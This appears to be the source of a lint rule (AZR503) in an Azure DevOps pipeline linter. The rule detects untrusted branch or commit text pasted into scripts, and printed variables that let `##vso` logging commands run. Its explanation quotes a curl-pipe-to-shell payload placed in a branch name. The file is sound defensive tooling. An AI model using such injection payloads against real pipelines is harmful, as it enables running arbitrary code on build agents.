"""AZR503: untrusted text in scripts."""

import re

from yaml import ScalarNode

from azrelease.lint.facts.scripts import Script
from azrelease.lint.rule import Code, Findings, LintedFile, Rule, Severity
from azrelease.syntax.embedded import macros, template_expressions

_UNTRUSTED = frozenset(
    (
        "build.sourcebranch",
        "build.sourcebranchname",
        "build.sourceversionmessage",
        "build.sourceversionauthor",
        "build.requestedfor",
        "system.pullrequest.sourcebranch",
        "system.pullrequest.sourcebranchname",
    )
)
"""Variables whose text the author of a branch or a commit chooses.

Source: learn.microsoft.com/azure/devops/pipelines/build/variables.
"""

_VARIABLE = re.compile(r"variables(?:\[\s*'([^']+)'\s*\]|\.(\w+))", re.IGNORECASE)
_AT_RUN_TIME = frozenset(("build.sourceversionmessage", "system.pullrequest.sourcebranchname"))
"""Variables that are empty when templates are expanded."""

_COMPARES = re.compile(
    r"\s*(?:eq|ne|and|or|xor|not|in|notIn|contains|containsValue|startsWith|endsWith|gt|ge|lt|le|length)\s*\(",
    re.IGNORECASE,
)
"""Functions whose result is a boolean or a number, whatever text they compare."""

_PARAMETER = re.compile(r"\s*parameters(?:\.(\w+)|\[\s*'([^']+)'\s*\])\s*", re.IGNORECASE)


_SPELLED = ("Build.SourceVersionMessage", "Build.SourceVersionAuthor", "Build.RequestedFor")
_ANY_TEXT = frozenset(name.casefold() for name in _SPELLED)
"""Those that can contain a logging command: the name of a branch has no `[` (git-scm.com/docs/git-check-ref-format)."""

_PRINTS = {
    "bash": (r"(?:echo|printf)\b", r"\$(?:{name}\b|\{{{name}\}})"),
    "powershell": (r"(?:echo|Write-(?:Host|Output|Information))\b", r"\$(?:env:{name}\b|\{{env:{name}\}})"),
}
"""How a language prints, and how it reads an environment variable."""

_MACRO = re.compile(r"\$\(([\w.]+)\)")


def check(file: LintedFile) -> Findings:
    """Untrusted variables in macros or template expressions; parameters with any text; printed environment variables."""
    for script in file.scripts:
        if "$" not in script.text:
            continue
        yield from _printed(file, script)
        for match in macros(script.text):
            if match[1].casefold() in _UNTRUSTED and not _in_comment(script, match.start()):
                message = f"`{match[0]}` is pasted into the script: the author of a branch or a commit can run commands"
                where = (script, match.start(), match.end())
                yield file.in_script(RULE.code, message, where, _instead(match[1], script))
        for part in template_expressions(script.text):
            yield from _in_template(file, script, part.text or "", (script, part.start, part.end))


def _printed(file: LintedFile, script: Script) -> Findings:
    """Untrusted text that a script prints from its environment: the agent runs the logging commands in it."""
    target = script.step.block.block("target")
    restricted = target is not None and target.entry("commands") is not None
    if script.language not in _PRINTS or restricted:
        return
    printing, reading = _PRINTS[script.language]
    for name, source in _environment(script).items():
        # A pipe, a file or a substitution may redirect the text; single quotes prevent the expansion.
        variable = reading.format(name=re.escape(name))
        pattern = rf"^[ \t]*{printing}[^|>;&'`\n]*?(?P<variable>{variable})[^|>;&`\n]*$"
        flags = re.MULTILINE | (re.IGNORECASE if script.language == "powershell" else 0)
        for match in re.finditer(pattern, script.text, flags):
            if "-replace" in match[0] or ".Replace" in match[0]:
                continue
            message = f"this prints `{source}`: a logging command in it, such as `##vso[task.setvariable …]`, runs"
            where = (script, match.start("variable"), match.end("variable"))
            yield file.in_script(RULE.code, message, where, f"Do not print it, or {_RESTRICT}.")


_RESTRICT = "give the step `target: {commands: restricted, settableVariables: none}`"


def _environment(script: Script) -> dict[str, str]:
    """The environment variables of a script with such text, each with the predefined variable that it comes from."""
    variables = {name.upper().replace(".", "_"): name for name in _SPELLED}
    for block, _ in script.step.block.blocks("env"):
        for entry in block.entries:
            macro = _MACRO.fullmatch(entry.value.value.strip()) if isinstance(entry.value, ScalarNode) else None
            if macro is not None and macro[1].casefold() in _ANY_TEXT:
                variables[entry.name] = macro[1]
    return variables


def _in_comment(script: Script, position: int) -> bool:
    return script.language != "cmd" and script.line_before(position).startswith("#")


def _in_template(file: LintedFile, script: Script, text: str, where: tuple[Script, int, int]) -> Findings:
    for variable in () if _COMPARES.match(text) else _VARIABLE.finditer(text):
        name = variable[1] or variable[2]
        if name.casefold() in _UNTRUSTED - _AT_RUN_TIME:
            message = f"`{name}` is pasted into the script: the author of a branch or a commit can run commands"
            yield file.in_script(RULE.code, message, where, _instead(name, script))
    given = _PARAMETER.fullmatch(text)
    name = (given[1] or given[2]) if given else ""
    parameter = file.parameters.get(name.casefold()) if file.is_pipeline else None
    if parameter is not None and parameter.type == "string" and parameter.values is None:
        message = f"the parameter `{name}` is pasted into the script: a person who starts a run can run commands"
        hint = f"Pass it in `env`, or list its `values`. If the script prints it, {_RESTRICT}."
        yield file.in_script(RULE.code, message, where, hint, Severity.INFO)


def _instead(name: str, script: Script) -> str:
    variable = re.sub(r"\W", "_", name).upper()
    use = f"$env:{variable}" if script.language == "powershell" else f'"${variable}"'
    if script.language == "python":
        use = f"os.environ['{variable}']"
    if script.language == "cmd":
        return "Use a script in bash or PowerShell, which can read it from the environment as data."
    printed = f" If the script prints it, {_RESTRICT}." if name.casefold() in _ANY_TEXT else ""
    return f"Read it from the environment, as data: `{use}`.{printed}"


RULE = Rule(
    code=Code("AZR503", "script-injection", Severity.WARNING),
    summary="untrusted text is pasted into a script",
    why=(
        "Macros and template expressions put their text into the script before the shell reads it: the command in a branch name such as "
        '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
        "(learn.microsoft.com/azure/devops/pipelines/security/inputs). The agent still reads that text when a script prints it: "
        "`##vso[…]` in the message of a commit sets variables, except in a step with `target: {commands: restricted, settableVariables: none}` "
        "(learn.microsoft.com/azure/devops/pipelines/yaml-schema/target)."
    ),
    wrong="steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
    right='steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
    check=check,
)
